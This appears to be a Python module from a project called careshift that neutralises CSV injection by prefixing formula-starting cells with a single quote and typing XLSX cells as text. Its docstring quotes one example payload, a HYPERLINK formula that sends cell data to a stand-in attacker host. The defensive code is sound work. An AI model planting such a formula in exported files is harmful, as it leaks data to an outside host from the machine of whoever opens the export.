"""Cells a spreadsheet will not run: the one rule for every CSV and XLSX file careshift writes.

A spreadsheet takes a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with a tab or a
carriage return, which some strip first) for a formula, so text someone typed into careshift,
such as ``=HYPERLINK("http://evil.example/?"&A1)``, would run on the machine of whoever opens an
export (CSV injection). :func:`inert` writes such text with a leading single quote, OWASP's
advice; numbers are never changed. A file careshift reads back (the course catalogue) takes
exactly that quote off again with :func:`restore`.

An XLSX cell has a type, so there the text stays as it is and :func:`keep_text` types it as
text: openpyxl would otherwise store a string starting with ``=`` as a live formula.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any, TypeVar

__all__ = ["FORMULA_STARTS", "inert", "inert_row", "keep_text", "restore"]

#: first characters that make a spreadsheet read a CSV cell as a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_Value = TypeVar("_Value")


def inert(value: _Value) -> _Value | str:
    """``value`` for a CSV cell: text a spreadsheet would run gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row for ``csv.DictWriter`` with every cell :func:`inert`."""
    return {column: inert(value) for column, value in row.items()}


def restore(text: str) -> str:
    """The text :func:`inert` was given: its single quote before a formula start removed."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def keep_text(cells: Iterable[Any]) -> None:
    """Type as text the openpyxl cells whose string value openpyxl took for a formula."""
    for cell in cells:
        if cell.data_type == "f" and isinstance(cell.value, str):
            cell.data_type = "s"
